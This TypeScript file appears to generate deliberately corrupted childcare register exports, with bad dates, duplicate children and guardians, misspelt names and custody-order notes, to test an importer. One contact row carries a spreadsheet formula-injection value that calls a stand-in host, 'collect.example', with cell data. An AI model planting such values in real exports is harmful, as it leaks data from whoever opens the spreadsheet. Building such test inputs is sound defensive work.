import { addDays, type Day } from '@alongside/server-data';
import type { InventedSetting } from './invented-settings';
import type { OutRegister, OutRow } from './register-rows-out';
import type { SeededRandom } from './seeded-random';

/** A note such as offices write beside a parent's name. */
const orderNote = 'Prohibited steps order 2026-03-12: not to collect, not to be told of the day';

/**
 * Spoils a tidy register in the ways that exports come spoilt, each way `times` times, in rows that are far apart. Rows
 * are added at the end of their files.
 */
export function makeUntidy(out: OutRegister, settings: readonly InventedSetting[], day: Day, times: number, random: SeededRandom): void {
  const spread = new Spread(out.children.length, random);
  const childAt = (index: number) => out.children[index] as OutRow;
  for (let time = 0; time < times; time += 1) {
    childAt(spread.next())['date_of_birth'] = '';
    childAt(spread.next())['date_of_birth'] = '31/02/2025';
    childAt(spread.next())['date_of_birth'] = addDays(day, 200);
    const leaver = childAt(spread.next());
    leaver['leaving_date'] = '2019-01-31';
    childAt(spread.next())['room'] = 'Blue room (closed)';
    childAt(spread.next())['key_person_ref'] = 'E999';
    const padded = childAt(spread.next());
    padded['legal_first_name'] = `  ${padded['legal_first_name'] ?? ''} `;
    childAtTwoSettings(out, childAt(spread.next()), settings);
    childTwice(out, childAt(spread.next()), time);
    childMisspelt(out, childAt(spread.next()), settings, time);
    orderFor(out, random);
    adultTwice(out, childAt(spread.next()), random);
    oneAddressForTwo(out);
    spoilAdults(out, random);
    out.relationships.push(relationTo(childAt(spread.next())['child_ref'] ?? '', `A9999${time}`), relationTo(`K9999${time}`, out.guardians[0]?.['guardian_ref'] ?? ''));
    out.contacts.push({ child_ref: childAt(spread.next())['child_ref'] ?? '', name: '=WEBSERVICE("http://collect.example/"&A1)', relationship: 'Friend', phone: '0', may_collect: 'Y', collection_password: '' });
  }
}

/** Indexes that are each used once, from all over the file. */
class Spread {
  private readonly left: number[];

  constructor(count: number, random: SeededRandom) {
    this.left = random.some(Array.from({ length: count }, (_, index) => index), count);
    for (let index = this.left.length - 1; index > 0; index -= 1) {
      const other = random.whole(0, index);
      [this.left[index], this.left[other]] = [this.left[other] as number, this.left[index] as number];
    }
  }

  next(): number {
    const index = this.left.pop();
    if (index === undefined) throw new RangeError('Too few children for so much untidiness.');
    return index;
  }
}

function relationTo(child: string, guardian: string): OutRow {
  return { child_ref: child, guardian_ref: guardian, relationship: 'Father', parental_responsibility: 'Y', lives_with: 'N', contact_order: '2', may_collect: 'Y', court_order_note: '' };
}

function childAtTwoSettings(out: OutRegister, child: OutRow, settings: readonly InventedSetting[]): void {
  const other = settings.find((setting) => setting.ref !== child['setting_ref']);
  if (other === undefined) return;
  // The key person stays the one of the first setting, as exports have it.
  out.children.push({ ...child, setting_ref: other.ref, room: other.rooms.at(-1)?.name ?? '' });
}

function childTwice(out: OutRegister, child: OutRow, time: number): void {
  const again = { ...child, child_ref: `K8000${time}`, home_language: '' };
  out.children.push(again);
  const relation = out.relationships.find((row) => row['child_ref'] === child['child_ref']);
  if (relation !== undefined) out.relationships.push({ ...relation, child_ref: again.child_ref });
}

function childMisspelt(out: OutRegister, child: OutRow, settings: readonly InventedSetting[], time: number): void {
  const last = child['last_name'] ?? '';
  const other = settings.find((setting) => setting.ref !== child['setting_ref']) ?? settings[0];
  out.children.push({ ...child, child_ref: `K7000${time}`, last_name: `${last.slice(0, 2)}${last.slice(3)}`, setting_ref: other?.ref ?? '', room: other?.rooms.at(-1)?.name ?? '', key_person_ref: '' });
}

function orderFor(out: OutRegister, random: SeededRandom): void {
  const candidates = out.relationships.filter((row) => row['relationship'] === 'Father' && row['lives_with'] === 'N' && row['court_order_note'] === '' && row['contact_order'] === '2');
  if (candidates.length === 0) return;
  const chosen = random.pick(candidates);
  chosen['may_collect'] = 'N';
  chosen['court_order_note'] = orderNote;
}

function adultTwice(out: OutRegister, child: OutRow, random: SeededRandom): void {
  const first = random.pick(out.guardians.slice(0, Math.ceil(out.guardians.length / 2)));
  const number = out.guardians.length + 1;
  const again = { ...first, guardian_ref: `A${String(number).padStart(5, '0')}`, email: (first['email'] ?? '').toUpperCase() };
  out.guardians.push(again);
  out.relationships.push({ ...relationTo(child['child_ref'] ?? '', again.guardian_ref), relationship: 'Mother', contact_order: '3' });
}

/** Every thirtieth couple has one mailbox between them. */
function oneAddressForTwo(out: OutRegister): void {
  for (let index = 1; index < out.guardians.length; index += 30) {
    const one = out.guardians[index - 1];
    const other = out.guardians[index];
    if (one && other && one['address'] === other['address'] && one['first_name'] !== other['first_name']) other['email'] = one['email'] ?? '';
  }
}

function spoilAdults(out: OutRegister, random: SeededRandom): void {
  const half = out.guardians.slice(Math.ceil(out.guardians.length / 2), -1);
  const [noMail, badMail, nick, flat] = random.some(half, 4);
  if (noMail) noMail['email'] = '';
  if (badMail) badMail['email'] = 'ring instead';
  if (nick) nick['last_name'] = `${nick['last_name'] ?? ''} "Mac"`;
  if (flat) flat['address'] = `Flat 3,\n${flat['address'] ?? ''}`;
}
